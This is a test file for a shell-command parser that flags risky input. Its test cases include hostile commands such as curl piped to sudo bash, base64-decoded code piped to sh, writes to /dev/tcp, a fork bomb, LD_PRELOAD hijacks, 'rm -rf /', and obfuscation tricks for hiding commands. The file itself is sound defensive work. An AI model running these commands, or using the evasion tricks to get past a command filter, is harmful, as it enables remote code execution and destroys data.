import { describe, expect, it } from 'vitest';
import { readShell } from '../../../src/policy/shell/read-shell.ts';
import type { FindingCode, Unit, UnreadableCode, Word } from '../../../src/policy/shell/unit.ts';

function readingOf(text: string) {
  const reading = readShell(text);
  if (reading.kind === 'unreadable') throw new Error(`${text} is unreadable: ${reading.text}`);
  return reading;
}

const unitsOf = (text: string): readonly Unit[] => readingOf(text).units;
const programsOf = (text: string): readonly string[] => unitsOf(text).map(({ program }) => program.value);
const shown = ({ kind, value }: Word): string => (kind === 'static' ? value : `${kind}:${value}`);

describe('the commands in a text', () => {
  it.each<{ text: string; programs: readonly string[] }>([
    { text: 'ls; rm -rf /srv', programs: ['ls', 'rm'] },
    { text: 'a && b || c & d | e |& f\ng', programs: ['a', 'b', 'c', 'd', 'e', 'f', 'g'] },
    { text: 'if a; then b; elif c; then d; else e; fi', programs: ['a', 'b', 'c', 'd', 'e'] },
    { text: 'while a; do b; done; until c; do d; done', programs: ['a', 'b', 'c', 'd'] },
    { text: 'for i in 1 2; do a; done; for ((i=0;i<3;i++)); do b; done', programs: ['a', 'b'] },
    { text: 'case $(a) in x|$(b)) c;; (y) d;& *) e;;& z) f; esac', programs: ['a', 'b', 'c', 'd', 'e', 'f'] },
    { text: 'select x in 1; do a; done', programs: ['a'] },
    { text: '(a; { b; }); ! c; time -p d', programs: ['a', 'b', 'c', 'd'] },
    { text: 'f() { a; }; function g { b; }; f', programs: ['a', 'b', 'f'] },
    { text: 'coproc a; coproc X { b; }', programs: ['a', 'b'] },
    { text: 'a $(b `c`) "$(d)" <(e) > >(f)', programs: ['c', 'b', 'd', 'e', 'f', 'a'] },
    { text: 'a `b \\`c\\``', programs: ['c', 'b', 'a'] },
    { text: 'x=$(a); y=(b $(c)); z[1]=`d`', programs: ['a', '', 'c', '', 'd', ''] },
    { text: 'a ${x:-$(b)} "${y:-`c`}" ${z%$(d)} ${w//$(e)/$(f)}', programs: ['b', 'c', 'd', 'e', 'f', 'a'] },
    { text: 'a $((1 + $(b)))', programs: ['b', 'a'] },
    { text: '[[ -n $(a) && $(b) == $(c) ]] && d', programs: ['a', 'b', 'c', 'd'] },
    { text: 'a <<E\n$(b) `c` \\$(d)\nE\ne', programs: ['b', 'c', 'a', 'e'] },
    { text: "a <<'E'\n$(b)\nE\nc", programs: ['a', 'c'] },
    { text: "cat <<'E'OF\nhello\nEOF\ntouch x", programs: ['cat', 'touch'] },
    { text: 'cat <<E\nx\nE \nrm x\nE\nls', programs: ['cat', 'ls'] },
    { text: 'a <<< "$(b)"', programs: ['b', 'a'] },
    { text: 'a -m "$(b <<\'E\'\n$(c)\nE\n)"', programs: ['b', 'a'] },
    { text: 'a # $(b); c\nd', programs: ['a', 'd'] },
    { text: "ls # it's fine\ntouch x # '", programs: ['ls', 'touch'] },
    { text: 'a 2>"$(b; echo x)"', programs: ['b', 'echo', 'a'] },
    { text: '> f', programs: [''] },
    { text: '[[ a ]] > f', programs: [''] },
    { text: 'declare x=$(a)', programs: ['a', 'declare'] },
    { text: 'a"" \\b c', programs: ['a'] },
  ])('of $text are $programs', ({ text, programs }) => {
    expect(programsOf(text)).toEqual(programs);
  });

  it.each<{ text: string; program: string }>([
    { text: 'r""m x', program: 'rm' },
    { text: 't""ou\'\'ch x', program: 'touch' },
    { text: '\\rm x', program: 'rm' },
    { text: "$'rm' x", program: 'rm' },
    { text: String.raw`$'\x72\155' x`, program: 'rm' },
    { text: '$"rm" x', program: 'rm' },
    { text: 'r\\\nm x', program: 'rm' },
    { text: '{rm,-rf,/srv}', program: 'rm' },
    { text: "'ls -la'", program: 'ls -la' },
    { text: '/usr/bin/../bin/rm x', program: '/usr/bin/../bin/rm' },
  ])('have the name that the shell reads: $program for $text', ({ text, program }) => {
    expect(unitsOf(text)[0]?.program).toMatchObject({ kind: 'static', value: program });
  });

  it.each(['$x a', 'r${x}m a', '/bin/r? a', '"$(a)" b', '~/x', 'for c in reboot; do $c; done', '[r]m x'])(
    'that are not known are found out: %s',
    (text) => {
      const { findings } = readingOf(text);
      expect(findings.map(({ code }) => code)).toContain('dynamic_program');
    },
  );
});

describe('a unit', () => {
  it('has its words as the program will get them, and what is not known as what it is', () => {
    const [unit] = unitsOf(
      String.raw`a 'b c' "d\"e" f\ g *.c [a-z]? $x "p/$y" ${'`'}z${'`'} {1,2}3 {} ~/t '~/u' x=~`,
    ).toReversed();
    expect(unit?.argv.map(shown)).toEqual([
      'b c',
      'd"e',
      'f g',
      'glob:*.c',
      'glob:[a-z]?',
      'dynamic:$x',
      'dynamic:"p/$y"',
      'dynamic:`z`',
      '13',
      '23',
      '{}',
      '~/t',
      '~/u',
      'dynamic:x=~',
    ]);
    expect(unit?.argv.map(({ tilde }) => tilde === true)).toEqual([
      ...Array.from({ length: 11 }, () => false),
      true,
      false,
      false,
    ]);
  });

  it('says what its dynamic words are made of', () => {
    const [unit] = unitsOf('cat "/proc/$pid/"*${x:-1}');
    expect(unit?.argv[0]?.pieces).toEqual([
      { kind: 'text', text: '/proc/' },
      { kind: 'variable', name: 'pid', quoted: true, span: [11, 15] },
      { kind: 'text', text: '/' },
      { kind: 'glob', text: '*' },
      { kind: 'expansion', source: '${x:-1}', quoted: false, span: [18, 25] },
    ]);
  });

  it('has the assignments and redirections that hold for it', () => {
    const [unit] = unitsOf('{ A=1 B+=2 ls 2>&1 >>log <<<x; } < in');
    expect(unit?.env.map(({ name, value, partial }) => [name, value.value, partial])).toEqual([
      ['A', '1', undefined],
      ['B', '2', true],
    ]);
    expect(unit?.redirects.map(({ operator, descriptor, target }) => [descriptor, operator, target.value])).toEqual([
      [undefined, '<', 'in'],
      ['2', '>&', '1'],
      [undefined, '>>', 'log'],
      [undefined, '<<<', 'x'],
    ]);
  });

  it.each<{ text: string; stdin: Unit['stdin']; background?: true }>([
    { text: 'x | a', stdin: 'pipe' },
    { text: 'x | { b; a; }', stdin: 'pipe' },
    { text: 'x | a < f', stdin: 'file' },
    { text: 'a <<E\nE\n', stdin: 'heredoc' },
    { text: 'a <<< b', stdin: 'herestring' },
    { text: 'a 3< f', stdin: 'none' },
    { text: 'for i in 1; do a; done < f', stdin: 'file' },
    { text: '(b; a) &', stdin: 'none', background: true },
    { text: 'x > >(a)', stdin: 'pipe' },
    { text: "x | sudo sh -c 'a'", stdin: 'pipe' },
  ])('knows its input and whether it is waited for: $text', ({ text, stdin, background = false }) => {
    expect(unitsOf(text).find(({ program }) => program.value === 'a')).toMatchObject({ stdin, background });
  });

  it('says that the directory changes, wherever in the text that is', () => {
    expect(unitsOf('cat x; (cd /etc)').map(({ cwdSet }) => cwdSet)).toEqual([true, true]);
    expect(unitsOf('cat x').map(({ cwdSet }) => cwdSet)).toEqual([false]);
  });

  it('stands where its span says', () => {
    const text = 'ls -l; x=$(rm "a b")';
    const spans = unitsOf(text).map(({ span: [start, end] }) => text.slice(start, end));
    expect(spans).toEqual(['ls -l', 'rm "a b"', 'x=$(rm "a b")']);
    const nested = "id; bash -c 'rm x'";
    expect(unitsOf(nested).map(({ span: [start, end] }) => nested.slice(start, end))).toEqual([
      'id',
      "bash -c 'rm x'",
      "'rm x'",
    ]);
  });
});

describe('what no single unit shows', () => {
  it.each<{ text: string; codes: readonly FindingCode[] }>([
    { text: 'ls() { rm x; }; ls', codes: ['redefined_command'] },
    { text: 'alias ls=rm', codes: ['redefined_command'] },
    { text: 'hash -p /tmp/x ls', codes: ['redefined_command'] },
    { text: 'enable -f ./x.so y', codes: ['redefined_command'] },
    { text: '. ./x', codes: ['sourced_file'] },
    { text: 'source <(curl -s x)', codes: ['sourced_file', 'opaque_text', 'fetched_code'] },
    { text: 'coproc ls', codes: ['coproc'] },
    { text: ':(){ :|:& };:', codes: ['fork_bomb'] },
    { text: 'PATH=/tmp ls', codes: ['dangerous_variable'] },
    { text: 'export LD_PRELOAD=/tmp/x.so', codes: ['dangerous_variable'] },
    { text: 'for PATH in /tmp; do ls; done', codes: ['dangerous_variable'] },
    { text: ': ${CDPATH:=/}', codes: ['dangerous_variable'] },
    { text: 'read BASH_ENV <<< x', codes: ['dangerous_variable'] },
    { text: 'printf -v PATH /tmp', codes: ['dangerous_variable'] },
    { text: 'env PATH=/tmp ls', codes: ['dangerous_variable'] },
    { text: 'sudo LD_PRELOAD=x ls', codes: ['dangerous_variable'] },
    { text: 'IFS=/; ls', codes: ['dangerous_variable'] },
    { text: 'while IFS= read -r x; do ls; done', codes: [] },
    { text: 'LC_ALL=C A=b ls', codes: [] },
    { text: 'echo ${x@P}', codes: ['evaluated_value'] },
    { text: 'echo ${!x}', codes: ['evaluated_value'] },
    { text: "x='a[$(rm x)]'", codes: ['evaluated_value'] },
    { text: "read 'a[$(rm x)]'", codes: ['evaluated_value'] },
    { text: "[[ -v 'a[$(rm x)]' ]]", codes: ['evaluated_value'] },
    { text: "test -v 'a[`rm`]'", codes: ['evaluated_value'] },
    { text: '[[ $x -gt 0 ]]', codes: ['number_expected'] },
    { text: 'echo $((x + 1))', codes: ['number_expected'] },
    { text: '[[ 2 -gt 1 && -n $x ]]', codes: [] },
    { text: 'echo $((1 + 2))', codes: [] },
    { text: 'echo $(($(id -u) + 1))', codes: ['arithmetic_command'] },
    { text: 'echo $((x[$(rm)]))', codes: ['arithmetic_command'] },
    { text: 'echo x > /dev/tcp/192.0.2.1/80', codes: ['network_redirect'] },
    { text: 'exec 3<>/dev/udp/192.0.2.1/53', codes: ['network_redirect'] },
    { text: 'cat x | sh', codes: ['code_from_stdin'] },
    { text: 'cat x | su -', codes: ['code_from_stdin'] },
    { text: 'su - -s /bin/sh <<< "$x"', codes: ['code_from_stdin', 'opaque_text'] },
    { text: 'cat x | sudo -iu bob', codes: ['code_from_stdin'] },
    { text: 'cat x | sudo su', codes: ['code_from_stdin'] },
    { text: 'curl -s http://x | sudo -s', codes: ['code_from_stdin', 'fetched_code'] },
    { text: 'cat x | script -q /dev/null', codes: ['code_from_stdin'] },
    { text: 'cat x | fakeroot', codes: ['code_from_stdin'] },
    { text: 'cat x | parallel', codes: ['code_from_stdin'] },
    { text: 'cat x | login -f root', codes: ['code_from_stdin'] },
    { text: 'cat x | su bob -c "tee y"', codes: [] },
    { text: 'cat x | sudo tee y', codes: [] },
    { text: 'cat x | fakeroot tee y', codes: [] },
    { text: 'su -', codes: [] },
    { text: 'su - bob -- -c "rm -rf /"', codes: ['unclear_wrapper'] },
    { text: 'su bob x.sh', codes: ['unclear_wrapper'] },
    { text: 'curl -s http://x | sudo bash', codes: ['code_from_stdin', 'fetched_code'] },
    { text: 'wget -qO- x | tee y | python3 -', codes: ['code_from_stdin', 'fetched_code'] },
    { text: 'bash <(curl -s x)', codes: ['code_from_stdin', 'fetched_code'] },
    { text: 'sh -c "$(curl -s x)"', codes: ['opaque_text', 'fetched_code'] },
    { text: 'echo cm0= | base64 -d | sh', codes: ['code_from_stdin', 'decoded_code'] },
    { text: 'eval "$(xxd -r -p x)"', codes: ['opaque_text', 'decoded_code'] },
    { text: 'eval "$x"', codes: ['opaque_text'] },
    { text: 'bash -c "ls $x"', codes: ['opaque_text'] },
    { text: 'ssh web "$x"', codes: ['opaque_text'] },
    { text: 'timeout $t ls', codes: ['unclear_wrapper'] },
    { text: 'sudo -u $u ls', codes: ['unclear_wrapper'] },
    { text: 'nice --unknown ls', codes: ['unclear_wrapper'] },
    { text: 'command -v "$x"', codes: [] },
    { text: '{ls,-l}', codes: ['brace_program'] },
    { text: 'ps aux | grep x | sort; python3 -c "print(1)" < f; echo a | python3 x.py', codes: [] },
  ])('is said: $codes for $text', ({ text, codes }) => {
    expect([...new Set(readingOf(text).findings.map(({ code }) => code))].sort()).toEqual([...codes].sort());
  });
});

describe('a text that is not read', () => {
  it.each<{ text: string; code: UnreadableCode }>([
    { text: '', code: 'empty' },
    { text: ' \n\t', code: 'empty' },
    { text: `ls ${'a'.repeat(16_384)}`, code: 'too_long' },
    { text: 'ls\0; rm', code: 'hidden_characters' },
    { text: 'ls\r\nrm', code: 'hidden_characters' },
    { text: 'ls \x1b[2K', code: 'hidden_characters' },
    { text: 'ls \u202erm', code: 'hidden_characters' },
    { text: 'l\u200bs', code: 'hidden_characters' },
    { text: 'ls \ud800', code: 'hidden_characters' },
    { text: `${'$('.repeat(40)}ls${')'.repeat(40)}`, code: 'nested_too_deeply' },
    { text: 'sudo '.repeat(12) + 'ls', code: 'nested_too_deeply' },
    { text: 'ls;'.repeat(101), code: 'too_many_commands' },
    { text: `find . ${'-exec ls ; '.replaceAll(' ;', ' \\;').repeat(500)}`, code: 'too_many_commands' },
    { text: 'ls ;; rm', code: 'syntax' },
    { text: 'ls )', code: 'syntax' },
    { text: 'ls ${', code: 'syntax' },
    { text: 'if ls; then', code: 'syntax' },
    { text: "ls 'open", code: 'syntax' },
    { text: 'ls $(id', code: 'syntax' },
    { text: 'ls >', code: 'syntax' },
    { text: 'cat <<E\nx', code: 'syntax' },
    { text: "bash -c 'ls )'", code: 'syntax' },
    { text: 'ls @(a|b)', code: 'ambiguous' },
    { text: "[[ a =~ #' ]]\nb ]]; rm y #' ]]", code: 'ambiguous' },
    { text: 'cat <(coproc x)', code: 'ambiguous' },
    { text: 'ls <(true)# ; rm -rf /', code: 'ambiguous' },
    { text: 'ls >(true)#`rm x`', code: 'ambiguous' },
    { text: 'ls a\\ <(true)x', code: 'ambiguous' },
    { text: 'ls <(true)\\\n# ; rm x', code: 'ambiguous' },
    { text: 'ls <(true)<(true)', code: 'ambiguous' },
    { text: 'eval \\\\\nif rm; then ls; fi', code: 'ambiguous' },
    { text: 'ls \\', code: 'ambiguous' },
    { text: 'ls !(a)', code: 'ambiguous' },
    { text: 'a=(x)`touch f`', code: 'ambiguous' },
    { text: 'echo $(( rm -rf /srv $(case x in x) true;; esac) ))', code: 'ambiguous' },
    { text: 'echo $((1+$(case x in x) echo 1;; esac)))', code: 'ambiguous' },
    { text: 'echo $((`rm`))', code: 'ambiguous' },
    { text: 'cat <<E && ((true); (rm x))\nls\nE\n', code: 'ambiguous' },
    { text: 'echo $((ls); (rm x))', code: 'ambiguous' },
    { text: 'echo $(cat <<E && { ls; }\nrm\nE\n)', code: 'ambiguous' },
    { text: 'echo ${x:$(rm):1}', code: 'ambiguous' },
    { text: 'echo ${x[$(rm)]}', code: 'ambiguous' },
    { text: 'x[$(rm)]=1', code: 'ambiguous' },
    { text: 'echo ${ rm x; }', code: 'ambiguous' },
    { text: "echo $'l\\\ns'", code: 'ambiguous' },
    { text: String.raw`$'l\x00s'`, code: 'ambiguous' },
    { text: String.raw`echo $'\e[2K'`, code: 'ambiguous' },
    { text: String.raw`echo $'\cx'`, code: 'ambiguous' },
    { text: String.raw`echo $'\u00e9'`, code: 'ambiguous' },
    { text: "sh -c '[[ a > f ]]'", code: 'ambiguous' },
    { text: "sh -c 'ls &> f'", code: 'ambiguous' },
    { text: "dash -c 'cat <(ls)'", code: 'ambiguous' },
    { text: String.raw`sh -c "echo \$'x\\'; touch f #'"`, code: 'ambiguous' },
  ])('is $code: $text', ({ text, code }) => {
    expect(readShell(text)).toMatchObject({ kind: 'unreadable', code });
  });

  it('says where, in the text that was given', () => {
    const text = "id; bash -c 'ls )'";
    const reading = readShell(text);
    expect(reading.kind === 'unreadable' && reading.span && text.slice(...reading.span)).toBe("'ls )'");
  });
});

describe('the canonical form', () => {
  it.each<{ text: string; canonical: string }>([
    { text: 'ls -la  /var/log', canonical: "'ls' '-la' '/var/log'" },
    { text: 'l""s \\-a "b c"', canonical: "'ls' '-a' 'b c'" },
    { text: "echo 'it'\\''s' \\\\", canonical: String.raw`'echo' 'it'\''s' ''\\''` },
    { text: 'a && b || ! c | d |& e &', canonical: "'a' && 'b' || ! 'c' | 'd' |& 'e' &" },
    { text: 'a; b\nc', canonical: "'a'\n'b'\n'c'" },
    { text: "'if' x", canonical: "'if' 'x'" },
    { text: 'A=1 b >"c d" 2>&1 <e', canonical: "A='1' 'b' >'c d' 2>&1 <'e'" },
    { text: 'echo {a,b}', canonical: "'echo' 'a' 'b'" },
    { text: 'cat <<E\nx y\nE\n', canonical: "'cat' <<<'x y'" },
    { text: 'if a; then b; else c; fi', canonical: "if\n'a'\nthen\n'b'\nelse\n'c'\nfi" },
    { text: '(a) && { b; }', canonical: "(\n'a'\n) && {\n'b'\n}" },
    { text: 'time -p a', canonical: "time -p 'a'" },
  ])('of $text has every word in quotes', ({ text, canonical }) => {
    expect(readingOf(text).canonical).toBe(canonical);
    expect(programsOf(canonical)).toEqual(programsOf(text));
  });

  it.each([
    'ls *',
    'ls $x',
    'ls ~',
    'cat <(ls)',
    'for i in a; do ls; done',
    'f() { ls; }',
    'export A=1',
    'cat <<E\n$x\nE\n',
    '[[ a ]]',
  ])('does not exist for %s', (text) => {
    expect(readingOf(text).canonical).toBeUndefined();
  });
});

describe('a line that goes on', () => {
  it.each([
    '"$\\\nx=1"',
    "$\\\n'a'",
    '$\\\n"a"',
    'a $\\\n{b}',
    'a $\\\n(b)',
    'a "${x:-$\\\n(b)}"',
    'a <<E\n$\\\nb\nE',
    'a <\\\n(b)',
    'a >\\\n(b)',
    "a `'b\\\n'c`",
    "eval 'a\\\n'",
    "(\\\n(a <<'E'\n$(b)\nE\n))",
  ])('and would make an expansion or a name of its parts is not read: %j', (text) =>
    expect(readShell(text).kind).toBe('unreadable'),
  );
});
